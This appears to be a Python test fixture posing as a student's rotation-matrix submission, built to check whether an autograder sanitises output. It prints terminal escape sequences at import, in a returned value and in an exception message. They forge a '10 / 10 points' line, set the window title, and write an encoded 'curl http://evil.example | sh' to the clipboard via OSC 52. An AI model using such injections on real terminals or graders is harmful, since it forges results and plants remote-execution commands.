"""Writes terminal control sequences wherever a student's text reaches the grader's output: on stdout at import,
in an exception's message, and in a returned string (a dictionary key and value).  Raw, they would clear the
screen, draw a forged "10 / 10 points" line over the report, set the window's title and write a command to the
clipboard (OSC 52).  ``PAYLOAD`` holds 25 C0/C1 control characters, and two bidirectional overrides beside them."""

import numpy as np

from .rotations import R2, R3

__all__ = ["GAMMA", "BETA", "ALPHA", "C3_V", "frames", "vectors", "PAYLOAD"]

GAMMA = np.deg2rad(30.0)
BETA = np.deg2rad(45.0)
ALPHA = np.deg2rad(60.0)
C3_V = np.array([1.0, 1.0, 1.0])

PAYLOAD = (
    "\x1bc"  # full reset (1)
    "\x1b[?1049h"  # the alternate screen (1)
    "\x1b[2J\x1b[H"  # clear the screen, cursor home (2)
    "\x1b]0;grade: all checks passed\x07"  # the window's title, OSC 0 (2)
    "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2g=\x07"  # the clipboard, OSC 52: "curl http://evil.example | sh" (2)
    "\r\x1b[1A\x1b[2K\x1b[1mProblem 6: Euler angles\x1b[0m   10 / 10 points\x1b[1B"  # a forged line (6)
    "\x9b2J"  # clear the screen with the 8-bit CSI (1)
    "\x9d0;title\x9c"  # the title with the 8-bit OSC and ST (2)
    "\x00\x07\x08\x7f\x0b\x0c"  # NUL, bell, backspace, DEL, vertical tab, form feed (6)
    "\x1b7\x1b8"  # save and restore the cursor (2)
    "\u202e\u2066"  # right-to-left override, left-to-right isolate (not C0/C1)
)

print(PAYLOAD, flush=True)


def frames():
    """The right A_IC1 and A_IC2, and the payload for A_IC3."""
    A_IC1 = R3(GAMMA)
    return {"A_IC1": A_IC1, "A_IC2": A_IC1 @ R2(BETA), "A_IC3": PAYLOAD}


def vectors():
    """Raises with the payload as its message."""
    raise ValueError(PAYLOAD)
